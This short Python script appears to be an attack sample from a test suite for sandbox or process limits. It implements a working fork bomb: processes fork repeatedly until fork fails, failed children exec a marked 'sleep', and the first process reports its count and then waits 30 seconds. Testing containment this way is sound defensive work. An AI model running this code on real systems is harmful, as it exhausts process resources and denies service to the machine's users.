# where: conv_forward
# Fork bomb: every process, children included, forks as fast as it can until fork fails (at most
# 100 tries each); a child whose fork failed becomes `sleep {marker}`. The first process reports how
# far it got, then waits out the check (bounded: 30 s).
import os
import time
origin, forked, error = os.getpid(), 0, None
for _ in range(100):
    try:
        pid = os.fork()
    except OSError as exc:
        error = exc
        break
    forked = forked + 1 if pid else 0      # a child starts counting afresh and goes on forking
if os.getpid() != origin:
    try:
        os.execv('/usr/bin/sleep', ['sleep', '{marker}'])
    finally:
        os._exit(0)
print('ATTACK: fork bomb: the first process forked %d times, then %s' % (forked, error or 'no error'), flush=True)
time.sleep(30)
